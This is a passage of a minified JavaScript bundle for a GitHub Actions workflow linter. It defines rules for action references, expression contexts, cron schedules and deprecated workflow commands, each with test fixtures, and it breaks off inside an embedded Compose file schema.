u=m=>({github:Op(),inputs:i||!s.has("inputs")?l:De(),strategy:Ap(),matrix:De(),steps:m,job:Mp(),runner:Sp(),env:Fe(I)}),p=te(),d=()=>te({outputs:Fe(I),conclusion:I,outcome:I}),f=de(n,s.get("outputs"));if(c)for(let m of f?.items??[]){let g=P(m.key);if(g===void 0)continue;let w=T(n,m.value);L(w)&&Y(n,w).has("value")||e({message:`output "${g}" of a composite action needs "value" (for example \`value: \${{ steps.<step id>.outputs.${g} }}\`); without it the output is always empty`,range:n.keyRange(m)})}if(!c)return;for(let m of t.actionSteps){let g=u(te(new Map(p.props)));for(let w of m.node.items){let v=P(w.key);v===void 0||v==="uses"||v==="id"||v==="shell"||Ca(n,T(n,w.value),g,e,v==="if",v==="if"?"jobs.<job_id>.steps.if":"jobs.<job_id>.steps.run")}m.id&&!m.id.includes("${{")&&p.props.set(m.id.toLowerCase(),d())}let h=u(p);for(let m of f?.items??[]){let g=T(n,m.value);L(g)&&Ca(n,T(n,Y(n,g).get("value")?.value),h,e)}},tests:[{name:"misspelled input keys, with a fix",path:"action.yml",input:`name: a
description: d
inputs:
  x:
    descripton: hi
    Default: 1
    type: string
runs:
  using: node20
  main: index.js
`,expect:[{line:5,col:5,message:'unexpected key "descripton" for input "x" of action metadata. expected one of "description", "required", "default", "deprecationMessage". Did you mean "description"?',severity:"warning"},{line:6,col:5,message:'Did you mean "default"?'},{line:7,col:5,message:'unexpected key "type"'}],fixed:`name: a
description: d
inputs:
  x:
    description: hi
    default: 1
    type: string
runs:
  using: node20
  main: index.js
`},{name:"retired node runtimes, with a fix",path:"action.yml",input:`name: a
description: d
runs:
  using: node16
  main: index.js
`,expect:[{line:4,col:10,message:'the "node16" runtime is retired',severity:"warning"}],fixed:`name: a
description: d
runs:
  using: node20
  main: index.js
`},{name:"composite outputs without value and expressions of composite steps",path:"action.yml",input:`name: a
description: d
inputs:
  who:
    description: w
outputs:
  o:
    description: out
  p:
    value: \${{ steps.late.outputs.x }}
runs:
  using: composite
  steps:
    - run: echo \${{ secrets.TOKEN }} \${{ inputs.whom }} \${{ steps.late.outputs.x }}
      shell: bash
    - id: late
      if: github.event_name == 'push' && vars.X
      run: echo \${{ github.sha
      shell: bash
`,expect:[{line:7,col:3,message:'output "o" of a composite action needs "value"'},{line:14,col:21,message:'undefined variable "secrets"'},{line:14,col:49,message:'property "whom" is not defined'},{line:14,col:67,message:'property "late" is not defined'},{line:17,col:42,message:'undefined variable "vars"'},{line:18,col:17}]},{name:"a valid composite action, and actions without composite steps",path:"action.yml",input:`name: a
description: d
inputs:
  who:
    description: w
    required: true
    default: \${{ github.actor }}
    deprecationMessage: use x
outputs:
  o:
    value: \${{ steps.s.outputs.o }}
runs:
  using: composite
  steps:
    - id: s
      run: echo "o=\${{ inputs.who }} \${{ github.action_path }} \${{ runner.os }} \${{ env.X }} \${{ hashFiles('x') }}" >> "$GITHUB_OUTPUT"
      shell: bash
    - if: steps.s.outputs.o == 'x' && success()
      uses: actions/checkout@v4
      with:
        ref: \${{ steps.s.outputs.o }}
`,expect:[]}]},yw=X_;var Ui=ie(require("node:path"));var Z_={id:"action-ref",language:["workflow","action"],severity:"error",compat:{actionlint:"action"},docs:{summary:"A step's `uses:` must be `owner/repo@ref`, `owner/repo/path@ref`, `./local/path`, `$/path` (this repository at the running commit) or `docker://image`; a local action folder must hold an `action.yml` (a warning for `./`: an earlier step may create it; an error for `$/`, read from the commit).",why:'GitHub fails the job at "Set up job" when it cannot resolve the action, after the other jobs have already started. A missing `@ref` is the usual slip.',bad:`on: push
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout
      - uses: docker://
`,good:`on: push
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - uses: docker://alpine:3.20
`},check({model:n,files:e,path:t,report:s}){let i=()=>n.memoize("projectRoot",()=>yt(t,e));for(let{job:r,step:o}of xe(n)){let a=o.uses;if(a===void 0||!o.usesNode||a.includes("${{"))continue;let c=n.rangeOf(o.usesNode),l=a.trim();if(l==="")continue;if(l.startsWith("docker://")){(!/^docker:\/\/[^\s]+$/.test(l)||l.length===9)&&s({message:`invalid docker image reference ${JSON.stringify(a)} at "uses": expected docker://image[:tag]`,range:c});continue}let u=Ve(l);if(u){if(l.includes("@")){let f=u.kind==="self"?`self-repository action ${JSON.stringify(a)} at "uses" must not have a @ref: "$/" always uses this repository at the commit being run. remove ${JSON.stringify(l.slice(l.indexOf("@")))}, or use "{owner}/{repo}/{path}@{ref}" for another ref`:`local action ${JSON.stringify(a)} at "uses" must not have a @ref: a local action is used at the commit being run`;s({message:f,range:c});continue}if(/\.ya?ml$/.test(u.path)&&u.path.includes(".github/workflows/")){s({message:`${JSON.stringify(a)} is a reusable workflow: call it with "uses" at the job level, not in a step`,range:c});continue}let p=i();if(!p)continue;let d=f=>{let h=Ui.posix.join(p,f);return e.exists(Ui.posix.join(h,"action.yml"))||e.exists(Ui.posix.join(h,"action.yaml"))||e.exists(Ui.posix.join(h,"Dockerfile"))};if(!d(u.path)){let f=u.kind==="workspace"&&r?xa(n,r.steps,o.index,u.path):void 0;if(f&&(!f.thisRepository||d(f.rest)))continue;if(f){s({message:`neither action.yml nor action.yaml is found in local action directory ${JSON.stringify(l)}: the checkout of this repository into "${f.folder}" has no ${JSON.stringify(f.rest||".")} with an action (unless an earlier step creates it, the step fails)`,range:c,severity:"warning"});continue}u.kind==="self"?s({message:`neither action.yml nor action.yaml is found in self-repository action directory ${JSON.stringify(l)}: "$/" reads this repository at the running commit, so the step fails`,range:c}):s({message:`neither action.yml nor action.yaml is found in local action directory ${JSON.stringify(l)} (unless an earlier step creates it, the step fails)`,range:c,severity:"warning"})}continue}if(/\.ya?ml(@|$)/.test(l)&&l.includes("/.github/workflows/")){s({message:`${JSON.stringify(a)} is a reusable workflow: call it with "uses" at the job level, not in a step`,range:c});continue}if(!/^[A-Za-z0-9_.-]+\/[A-Za-z0-9_.-]+(\/[^@\s]+)?@[^@\s]+$/.test(l)){let p=l.includes("@")?"":": the @ref (a tag, branch or commit SHA) is missing";s({message:`specifying action ${JSON.stringify(a)} in invalid format because ${p?"ref is missing":"it does not match owner/repo[/path]@ref"}. available formats are "{owner}/{repo}@{ref}", "{owner}/{repo}/{path}@{ref}", "./path", "$/path" or "docker://image"${p}`,range:c})}}},tests:[{name:"invalid references",input:`on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout
      - uses: checkout@v4
      - uses: ./local@v1
      - uses: docker://
      - uses: org/repo/.github/workflows/x.yml@main
`,expect:[{line:6,col:15,message:"ref is missing"},{line:7,col:15,message:"invalid format"},{line:8,col:15,message:"must not have a @ref"},{line:9,col:15,message:"invalid docker image reference"},{line:10,col:15,message:"reusable workflow"}]},{name:"a local action inside a checkout of this repository into a folder is read from the repository",input:`on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
        with:
          path: action
      - uses: ./action
      - uses: ./action/.github/actions/here
      - uses: ./action/.github/actions/missing
      - uses: actions/checkout@v4
        with:
          repository: octo/tools
          path: tools
      - uses: ./tools/setup
      - uses: ./elsewhere
`,files:{"action.yml":`name: a
description: d
runs:
  using: node20
  main: index.js
`,".github/actions/here/action.yml":`name: h
description: d
runs:
  using: composite
  steps: []
`},expect:[{line:11,col:15,severity:"warning",message:'neither action.yml nor action.yaml is found in local action directory "./action/.github/actions/missing": the checkout of this repository into "action" has no ".github/actions/missing" with an action (unless an earlier step creates it, the step fails)'},{line:17,col:15,severity:"warning",message:'neither action.yml nor action.yaml is found in local action directory "./elsewhere" (unless an earlier step creates it, the step fails)'}]},{name:"missing local action",input:`on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - uses: ./.github/actions/missing
      - uses: ./.github/actions/here
`,files:{".github/actions/here/action.yml":`name: x
description: d
runs:
  using: node20
  main: x.js
`},expect:[{line:6,col:15,message:"neither action.yml nor action.yaml",severity:"warning"}]},{name:"self-repository references ($/): present, absent, with a @ref, a workflow in a step",input:`on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - uses: $/.github/actions/hello
      - uses: $/.github/actions/missing
      - uses: $/.github/actions/hello@v1
      - uses: $/.github/workflows/reuse.yml
      - uses: ./.github/workflows/reuse.yml
      - uses: $/
`,files:{".github/actions/hello/action.yml":`name: x
description: d
runs:
  using: composite
  steps: []
`,".github/workflows/reuse.yml":`on: workflow_call
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: echo
`,"action.yml":`name: x
description: d
runs:
  using: composite
  steps: []
`},expect:[{line:7,col:15,message:'neither action.yml nor action.yaml is found in self-repository action directory "$/.github/actions/missing": "$/" reads this repository at the running commit, so the step fails',severity:"error"},{line:8,col:15,message:'self-repository action "$/.github/actions/hello@v1" at "uses" must not have a @ref: "$/" always uses this repository at the commit being run. remove "@v1"',severity:"error"},{line:9,col:15,message:'"$/.github/workflows/reuse.yml" is a reusable workflow: call it with "uses" at the job level'},{line:10,col:15,message:'"./.github/workflows/reuse.yml" is a reusable workflow: call it with "uses" at the job level'}]},{name:"self-repository references in a composite action resolve in the action's repository",path:"actions/outer/action.yml",input:`name: outer
description: d
runs:
  using: composite
  steps:
    - uses: $/actions/inner
    - uses: $/actions/gone
    - uses: $/actions/inner@main
`,files:{".git/HEAD":`ref: refs/heads/main
`,"actions/inner/action.yml":`name: x
description: d
runs:
  using: composite
  steps: []
`},expect:[{line:7,col:13,message:'self-repository action directory "$/actions/gone"'},{line:8,col:13,message:"must not have a @ref"}]},{name:"valid references",input:`on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - uses: github/codeql-action/init@v3
      - uses: actions/setup-node@0a44ba7841725637a19e28fa30b79a866c81b0a6
      - uses: docker://ghcr.io/owner/image:1.0
      - uses: \${{ matrix.action }}
      - uses: ./
`,files:{"action.yml":`name: x
description: d
runs:
  using: composite
  steps: []
`},expect:[]}]},bw=Z_;function ze(n,e){if(n.model.kind!=="workflow")return;let{diags:t}=_a(n.model,n.files,n.path);for(let s of t)s.rule===e&&n.report({message:s.message,range:n.model.lines.range(s.start,Math.max(s.end,s.start)),severity:s.severity})}var Q_={id:"constant-condition",language:"workflow",severity:"warning",compat:{actionlint:"if-cond"},docs:{summary:"An `if:` condition whose value is known without running the workflow, such as `true` or `1 == 1`.",why:"A constant condition is usually a leftover from debugging: the job or step always (or never) runs, and the `if:` only hides that.",bad:`on: push
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - run: echo hi
        if: false
`,good:`on: push
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - run: echo hi
        if: github.event_name == 'push'
`},check(n){ze(n,"constant-condition")},tests:[{name:"constant expressions",input:`on: push
jobs:
  a:
    runs-on: ubuntu-latest
    if: \${{ true && !null }}
    steps:
      - run: echo
        if: contains('abc', 'b')
`,expect:[{line:5,col:9,message:'constant expression "true && !null"'},{line:8,col:13}]},{name:"conditions that depend on the run",input:`on: push
jobs:
  a:
    runs-on: ubuntu-latest
    if: always()
    steps:
      - run: echo
        if: \${{ github.ref == 'x' }}
`,expect:[]}]},ww=Q_;var e$={id:"context-availability",language:"workflow",severity:"error",compat:{actionlint:"expression"},docs:{summary:"A context (`env`, `runner`, `secrets`, `steps`, ...) or a special function (`success()`, `hashFiles()`, ...) used where GitHub does not provide it.",why:'Each workflow key sees only some contexts (GitHub\'s "context availability" table): `env` is not available in `jobs.<id>.if` or `runs-on`, `runner` only exists once a job runs, `always()` only works in `if:`. GitHub fails the run when it meets one.',bad:`on: push
jobs:
  build:
    runs-on: \${{ env.RUNNER }}
    steps:
      - run: echo hi
`,good:`on: push
jobs:
  build:
    runs-on: \${{ vars.RUNNER }}
    steps:
      - run: echo hi
`},check(n){ze(n,"context-availability")},tests:[{name:"env in a job-level if",input:`on: push
jobs:
  a:
    runs-on: ubuntu-latest
    if: env.DEPLOY == 'true'
    steps:
      - run: echo
`,expect:[{line:5,col:9,message:'context "env" is not allowed here'}]},{name:"runner in job env, secrets in step if",input:`on: push
jobs:
  a:
    runs-on: ubuntu-latest
    env:
      T: \${{ runner.temp }}
    steps:
      - run: echo
        if: \${{ secrets.TOKEN != '' }}
`,expect:[{line:6,col:14,message:'"runner"'},{line:9,col:17,message:'"secrets"'}]},{name:"special functions outside if",input:`on: push
jobs:
  a:
    runs-on: ubuntu-latest
    env:
      H: \${{ hashFiles('**/x') }}
    steps:
      - run: echo \${{ always() }}
`,expect:[{line:6,message:'calling function "hashFiles" is not allowed here'},{line:8,message:'calling function "always" is not allowed here'}]},{name:"no context in step shell",input:`on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: echo
        shell: \${{ env.SHELL }}
`,expect:[{line:7,message:"no context is available here"}]},{name:"contexts where they are available",input:`on: push
env:
  A: \${{ secrets.X }}
jobs:
  a:
    runs-on: ubuntu-latest
    if: \${{ success() && github.ref == 'x' }}
    steps:
      - run: echo \${{ runner.os }} \${{ env.A }} \${{ hashFiles('x') }}
        if: always()
        env:
          B: \${{ job.status }}
`,expect:[]}]},vw=e$;var t$=["JAN","FEB","MAR","APR","MAY","JUN","JUL","AUG","SEP","OCT","NOV","DEC"],n$=["SUN","MON","TUE","WED","THU","FRI","SAT"],s$=[{name:"minute",min:0,max:59},{name:"hour",min:0,max:23},{name:"day of month",min:1,max:31},{name:"month",min:1,max:12,names:t$,namesBase:1},{name:"day of week",min:0,max:7,names:n$,namesBase:0}];function i$(n,e){let t=new Set,s=i=>{if(/^\d+$/.test(i))return Number(i);let r=e.names?.indexOf(i.toUpperCase())??-1;return r>=0?r+(e.namesBase??0):void 0};for(let i of n.split(",")){let r=/^([^/]+)(?:\/(\d+))?$/.exec(i);if(!r)return`invalid ${e.name} field ${JSON.stringify(i)}`;let o=r[2]!==void 0?Number(r[2]):1;if(o<1)return`step of ${e.name} field must be at least 1`;let a,c;if(r[1]==="*")a=e.min,c=e.max===7?6:e.max;else{let l=r[1].split("-");if(l.length>2)return`invalid range ${JSON.stringify(r[1])} in ${e.name} field`;if(a=s(l[0]),c=l.length===2?s(l[1]):r[2]!==void 0?e.max===7?6:e.max:a,a===void 0||c===void 0)return`invalid value ${JSON.stringify(r[1])} in ${e.name} field`}if(a<e.min||c>e.max||a>e.max||c<e.min)return`value ${JSON.stringify(r[1])} is out of range ${e.min}-${e.max} in ${e.name} field`;if(a>c)return`range ${JSON.stringify(r[1])} in ${e.name} field is reversed`;for(let l=a;l<=c;l+=o)t.add(l)}return[...t].sort((i,r)=>i-r)}function r$(n,e){let t=[];for(let i of e)for(let r of n)t.push(i*60+r);t.sort((i,r)=>i-r);let s=1/0;for(let i=1;i<t.length;i++)s=Math.min(s,t[i]-t[i-1]);return t.length&&e.length===24&&(s=Math.min(s,t[0]+1440-t[t.length-1])),s}var Da=new Map;function o$(n){let e=Da.get(n);if(e!==void 0)return e;try{new Intl.DateTimeFormat("en-US",{timeZone:n}),e=n.includes("/")||/^(UTC|GMT|Etc\/.*)$/i.test(n)}catch{e=!1}return Da.size>1e3&&Da.clear(),Da.set(n,e),e}var a$={id:"cron-schedule",language:"workflow",severity:"error",compat:{actionlint:"events"},docs:{summary:"`on.schedule` must be a list of `cron:` entries with five valid fields (minute hour day month weekday; ranges, steps, lists and JAN-DEC/SUN-SAT names) and an optional IANA `timezone`. Schedules more frequent than every 5 minutes are reported as a warning.",why:"GitHub rejects an invalid cron expression, and silently runs a too-frequent schedule only every 5 minutes at best. `on: schedule` without a cron never runs.",bad:`on:
  schedule:
    - cron: '0 0 * * 8'
    - cron: '*/2 * * * *'
jobs:
  nightly:
    runs-on: ubuntu-latest
    steps:
      - run: make nightly
`,good:`on:
  schedule:
    - cron: '0 0 * * 0'
    - cron: '*/5 * * * *'
jobs:
  nightly:
    runs-on: ubuntu-latest
    steps:
      - run: make nightly
`},check({model:n,report:e}){for(let t of K(n).events)if(t.name==="schedule"){if(!t.config||F(t.config)&&t.config.value===null||t.node===t.config){G(t.config)||e({message:"schedule event must be configured with a list of `cron:` entries",range:n.rangeOf(t.node)});continue}if(G(t.config))for(let s of t.config.items){let i=T(n,s);if(!L(i))continue;let r=Y(n,i),o=T(n,r.get("cron")?.value),a=P(o);if(a!==void 0&&F(o)&&!a.includes("${{")&&a.trim()!==""){let u=n.rangeOf(o),p=a.trim().split(/\s+/);if(p.length!==5)e({message:`invalid CRON format ${JSON.stringify(a)} in schedule event: expected 5 fields (minute hour day-of-month month day-of-week) but found ${p.length}`,range:u});else{let d=p.map((h,m)=>i$(h,s$[m])),f=d.find(h=>typeof h=="string");if(f)e({message:`invalid CRON format ${JSON.stringify(a)} in schedule event: ${f}`,range:u});else{let h=r$(d[0],d[1]);h<5&&e({message:`scheduled job runs too frequently. it runs once per ${h*60} seconds. the shortest interval is once every 5 minutes`,range:u,severity:"warning"})}}}let c=T(n,r.get("timezone")?.value),l=P(c);l&&F(c)&&!l.includes("${{")&&!o$(l)&&e({message:`invalid timezone ${JSON.stringify(l)} in schedule event. it must be a valid IANA timezone name such as "Europe/Berlin"`,range:n.rangeOf(c)})}}},tests:[{name:"bad fields, field count and timezone",input:`on:
  schedule:
    - cron: '0 0 * * 8'
    - cron: '0 0 * *'
    - cron: '60 * * * *'
    - cron: '0 12 * JAN-DEC/2 MON-FRI'
      timezone: Not/A/Timezone
    - cron: '0 5-1 * * *'
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: echo
`,expect:[{line:3,col:13,message:"out of range 0-7 in day of week field"},{line:4,col:13,message:"expected 5 fields"},{line:5,col:13,message:"out of range 0-59"},{line:7,col:17,message:'invalid timezone "Not/A/Timezone"'},{line:8,col:13,message:"reversed"}]},{name:"too frequent",input:`on:
  schedule:
    - cron: '*/4 * * * *'
    - cron: '0,2 3 * * *'
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: echo
`,expect:[{line:3,col:13,message:"runs once per 240 seconds",severity:"warning"},{line:4,col:13,message:"once per 120 seconds",severity:"warning"}]},{name:"schedule without cron",input:`on: [push, schedule]
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: echo
`,expect:[{line:1,col:12,message:"schedule event must be configured"}]},{name:"valid schedules",input:`on:
  schedule:
    - cron: '*/5 * * * *'
    - cron: '30 5,17 * * 1-5'
    - cron: '0 0 1 */3 SUN'
    - cron: '59 23 31 DEC 7'
      timezone: Europe/Berlin
    - cron: '0 0 * * *'
      timezone: UTC
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: echo
`,expect:[]}]},kw=a$;var Ip="ACTIONS_ALLOW_UNSECURE_COMMANDS";function c$(n,e,t){let s=a=>{let c=T(n,a?.get("env")?.value);return L(c)?Y(n,c).get(Ip):void 0},i=K(n).root,r=s(t.pairs)??(e?s(e.pairs)??(i?s(Y(n,i)):void 0):void 0);if(!r)return"no";let o=P(T(n,r.value));return o===void 0?"no":o.includes("${{")?"maybe":o.trim().toLowerCase()==="true"?"yes":"no"}var l$={"set-output":{file:"GITHUB_OUTPUT",example:'echo "{name}={value}" >> "$GITHUB_OUTPUT"',disabled:!1},"save-state":{file:"GITHUB_STATE",example:'echo "{name}={value}" >> "$GITHUB_STATE"',disabled:!1},"set-env":{file:"GITHUB_ENV",example:'echo "{name}={value}" >> "$GITHUB_ENV"',disabled:!0},"add-path":{file:"GITHUB_PATH",example:'echo "{path}" >> "$GITHUB_PATH"',disabled:!0}},u$=/(?<![\w-])::(set-output|save-state|set-env|add-path)(?=[\s:])/g;function p$(n,e,t,s,i){if(i!=="set-output"&&i!=="save-state")return;let r=e.lastIndexOf(`
`,s-1)+1,o=e.indexOf(`
`,s);o<0&&(o=e.length);let a=e.slice(r,o),l=new RegExp(`^(\\s*echo\\s+)(["']?)::${i}\\s+name=([A-Za-z0-9_.-]+)::(.*?)\\2(\\s*(?:[;&|].*)?)$`).exec(a);if(!l)return;let[,u,p,d,f,h]=l;if(f.includes(p||'"')&&p!=="'")return;let m=p||'"',g=i==="set-output"?"GITHUB_OUTPUT":"GITHUB_STATE",w=`${u}${m}${d}=${f}${m} >> "$${g}"${h}`,v=t[r],O=t[o-1]+1;return[{title:`Write to $${g} instead of ::${i}`,preferred:!0,edits:[{range:n.lines.range(v,O),newText:w}]}]}var d$={id:"deprecated-command",language:["workflow","action"],severity:"warning",compat:{actionlint:"deprecated-commands"},docs:{summary:"A `run:` script uses a deprecated workflow command: `::set-output` and `::save-state` (deprecated, warning) or `::set-env` and `::add-path` (disabled by GitHub: an error; a warning where `ACTIONS_ALLOW_UNSECURE_COMMANDS: true` in the workflow, job or step `env` re-enables them, since that lets any printed line set variables).",why:"GitHub disabled `set-env` and `add-path` because any log line could inject variables, and warns about `set-output`/`save-state`, which will stop working. Write to the `$GITHUB_OUTPUT`, `$GITHUB_STATE`, `$GITHUB_ENV` and `$GITHUB_PATH` files instead.",bad:`on: push
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - id: v
        run: echo "::set-output name=version::1.2.3"
`,good:`on: push
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - id: v
        run: echo "version=1.2.3" >> "$GITHUB_OUTPUT"
`},check({model:n,report:e}){for(let{job:t,step:s}of xe(n)){if(!s.runNode||typeof s.runNode.value!="string")continue;let i=s.runNode.value;if(!i.includes("::"))continue;let r=wt(s.runNode,n.text),o;for(let a of i.matchAll(u$)){let c=l$[a[1]],l=a.index,u=r?.exact?r.offsets[l]:s.runNode.range[0],p=r?.exact?r.offsets[l+a[0].length-1]+1:s.runNode.range[1],d=`use \`${c.example}\` instead: https://docs.github.com/en/actions/using-workflows/workflow-commands-for-github-actions`,f=`workflow command ${JSON.stringify(a[1])} was ${c.disabled?"disabled":"deprecated"}. ${d}`,h=c.disabled?"error":void 0;c.disabled&&(o??=c$(n,t,s))!=="no"&&(h="warning",f=o==="yes"?`workflow command ${JSON.stringify(a[1])} is disabled by GitHub and re-enabled here by ${Ip}: any text the step prints (a log line, a file's contents) can then change ${c.file==="GITHUB_PATH"?"PATH":"environment variables"} of later steps. ${d}`:`workflow command ${JSON.stringify(a[1])} is disabled by GitHub unless ${Ip} (set here by an expression) is true, which lets any text the step prints change ${c.file==="GITHUB_PATH"?"PATH":"environment variables"} of later steps. ${d}`),e({message:f,range:n.lines.range(u,p),severity:h,fixes:r?.exact&&s.runNode.type!=="QUOTE_DOUBLE"&&s.runNode.type!=="QUOTE_SINGLE"?p$(n,i,r.offsets,l,a[1]):void 0})}}},tests:[{name:"all four commands",input:`on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: echo "::set-output name=foo::bar"
      - run: |
          echo "::save-state name=foo::bar"
          echo "::set-env name=foo::bar"
          echo "::add-path::/usr/local/bin"
`,expect:[{line:6,col:20,message:'workflow command "set-output" was deprecated',severity:"warning"},{line:8,col:17,message:'"save-state"'},{line:9,col:17,message:'"set-env" was disabled',severity:"error"},{line:10,col:17,message:"GITHUB_PATH"}]},{name:"fix: set-output and save-state write to the files",input:`on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: echo "::set-output name=foo::bar"
      - run: |
          echo ::save-state name=pid::$PID
          echo '::set-output name=dir::\${{ runner.temp }}/x' && true
          echo "::set-env name=foo::bar"
`,expect:[{line:6,col:20},{line:8,col:16},{line:9,col:17},{line:10,col:17,severity:"error"}],fixed:`on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: echo "foo=bar" >> "$GITHUB_OUTPUT"
      - run: |
          echo "pid=$PID" >> "$GITHUB_STATE"
          echo 'dir=\${{ runner.temp }}/x' >> "$GITHUB_OUTPUT" && true
          echo "::set-env name=foo::bar"
`},{name:"ACTIONS_ALLOW_UNSECURE_COMMANDS re-enables set-env and add-path (a risk, not an error)",input:`on: push
env:
  ACTIONS_ALLOW_UNSECURE_COMMANDS: true
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: echo "::set-env name=A::b"
  b:
    runs-on: ubuntu-latest
    env:
      ACTIONS_ALLOW_UNSECURE_COMMANDS: 'false'
    steps:
      - run: echo "::set-env name=A::b"
      - run: echo "::add-path::/opt/bin"
        env:
          ACTIONS_ALLOW_UNSECURE_COMMANDS: 'True'
      - run: echo "::add-path::/opt/bin"
        env:
          ACTIONS_ALLOW_UNSECURE_COMMANDS: \${{ vars.ALLOW }}
`,expect:[{line:8,col:20,message:'workflow command "set-env" is disabled by GitHub and re-enabled here by ACTIONS_ALLOW_UNSECURE_COMMANDS: any text the step prints (a log line, a file\'s contents) can then change environment variables of later steps. use `echo "{name}={value}" >> "$GITHUB_ENV"` instead',severity:"warning"},{line:14,col:20,message:'"set-env" was disabled',severity:"error"},{line:15,col:20,message:"re-enabled here by ACTIONS_ALLOW_UNSECURE_COMMANDS: any text the step prints (a log line, a file's contents) can then change PATH",severity:"warning"},{line:18,col:20,message:"disabled by GitHub unless ACTIONS_ALLOW_UNSECURE_COMMANDS (set here by an expression) is true",severity:"warning"}]},{name:"the replacement files and other commands",input:`on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: |
          echo "x=1" >> "$GITHUB_OUTPUT"
          echo "::warning::set-output is gone"
          echo "::group::build"
`,expect:[]}]},xw=d$;var Yp=ie(require("node:path"));var Ns=ie(require("node:path"));var Tn=ie(require("node:path")),Ln=ie(gt());var an=ie(require("node:path")),se=ie(gt());var pe=ie(gt());var Rw={source:"Compose specification schema (compose-spec/compose-spec, Apache-2.0), from dclint@3.1.0 schemas/compose.schema.json",$schema:"https://json-schema.org/draft-07/schema",$id:"compose_spec.json",type:"object",title:"Compose Specification",description:"The Compose file is a YAML file defining a multi-containers based application.",properties:{version:{type:"string",deprecated:!0,description:"declared for backward compatibility, ignored. Please remove it."},name:{type:"string",description:"define the Compose project name, until user defines one explicitly."},include:{type:"array",items:{$ref:"#/definitions/include"},description:"compose sub-projects to be included."},services:{type:"object",patternProperties:{"^[a-zA-Z0-9._-]+$":{$ref:"#/definitions/service"}},additionalProperties:!1,description:"The services that will be used by your application."},models:{type:"object",patternProperties:{"^[a-zA-Z0-9._-]+$":{$ref:"#/definitions/model"}},description:"Language models that will be used by your application."},networks:{type:"object",patternProperties:{"^[a-zA-Z0-9._-]+$":{$ref:"#/definitions/network"}},description:"Networks that are shared among multiple services."},volumes:{type:"object",patternProperties:{"^[a-zA-Z0-9._-]+$":{$ref:"#/definitions/volume"}},additionalProperties:!1,description:"Named volumes that are shared among multiple services."},secrets:{type:"object",patternProperties:{"^[a-zA-Z0-9._-]+$":{$ref:"#/definitions/secret"}},additionalProperties:!1,description:"Secrets that are shared among multiple services."},configs:{type:"object",patternProperties:{"^[a-zA-Z0-9._-]+$":{$ref:"#/definitions/config"}},additionalProperties:!1,description:"Configurations that are shared among multiple services."}},patternProperties:{"^x-":{}},additionalProperties:!1,definitions:{service:{type:"object",description:"Configuration for a service.",properties:{develop:{$ref:"#/definitions/development"},deploy:{$ref:"#/definitions/deployment"},annotations:{$ref:"#/definitions/list_or_dict"},attach:{type:["boolean","string"]},build:{description:"Configuration options for building the service's image.",oneOf:[{type:"string",description:"Path to the build context. Can be a relative path or a URL."},{type:"object",properties:{context:{type:"string",description:"Path to the build context. Can be a relative path or a URL."},dockerfile:{type:"string",description:"Name of the Dockerfile to use for building the image."},dockerfile_inline:{type:"string",description:"Inline Dockerfile content to use instead of a Dockerfile from the build context."},entitlements:{type:"array",items:{type:"string"},description:"List of extra privileged entitlements to grant to the build process."},args:{$ref:"#/definitions/list_or_dict",description:"Build-time variables, specified as a map or a list of KEY=VAL pairs."},ssh:{$ref:"#/definitions/list_or_dict",description:"SSH agent socket or keys to expose to the build. Format is either a string or a list of 'default|<id>[=<socket>|<key>[,<key>]]'."},labels:{$ref:"#/definitions/list_or_dict",description:"Labels to apply to the built image."},cache_from:{type:"array",items:{type:"string"},description:"List of sources the image builder should use for cache resolution"},cache_to:{type:"array",items:{type:"string"},description:"Cache destinations for the build cache."},no_cache:{type:["boolean","string"],description:"Do not use cache when building the image."},additional_contexts:{$ref:"#/definitions/list_or_dict",description:"Additional build contexts to use, specified as a map of name to context path or URL."},network:{type:"string",description:"Network mode to use for the build. Options include 'default', 'none', 'host', or a network name."},pull:{type:["boolean","string"],description:"Always attempt to pull a newer version of the image."},target:{type:"string",description:"Build stage to target in a multi-stage Dockerfile."},shm_size:{type:["integer","string"],description:"Size of /dev/shm for the build container. A string value can use suffix like '2g' for 2 gigabytes."},extra_hosts:{$ref:"#/definitions/extra_hosts",description:"Add hostname mappings for the build container."},isolation:{type:"string",description:"Container isolation technology to use for the build process."},privileged:{type:["boolean","string"],description:"Give extended privileges to the build container."},secrets:{$ref:"#/definitions/service_config_or_secret",description:"Secrets to expose to the build. These are accessible at build-time."},tags:{type:"array",items:{type:"string"},description:"Additional tags to apply to the built image."},ulimits:{$ref:"#/definitions/ulimits",description:"Override the default ulimits for the build container."},platforms:{type:"array",items:{type:"string"},description:"Platforms to build for, e.g., 'linux/amd64', 'linux/arm64', or 'windows/amd64'."}},additionalProperties:!1,patternProperties:{"^x-":{}}}]},blkio_config:{type:"object",description:"Block IO configuration for the service.",properties:{device_read_bps:{type:"array",description:"Limit read rate (bytes per second) from a device.",items:{$ref:"#/definitions/blkio_limit"}},device_read_iops:{type:"array",description:"Limit read rate (IO per second) from a device.",items:{$ref:"#/definitions/blkio_limit"}},device_write_bps:{type:"array",description:"Limit write rate (bytes per second) to a device.",items:{$ref:"#/definitions/blkio_limit"}},device_write_iops:{type:"array",description:"Limit write rate (IO per second) to a device.",items:{$ref:"#/definitions/blkio_limit"}},weight:{type:["integer","string"],description:"Block IO weight (relative weight) for the service, between 10 and 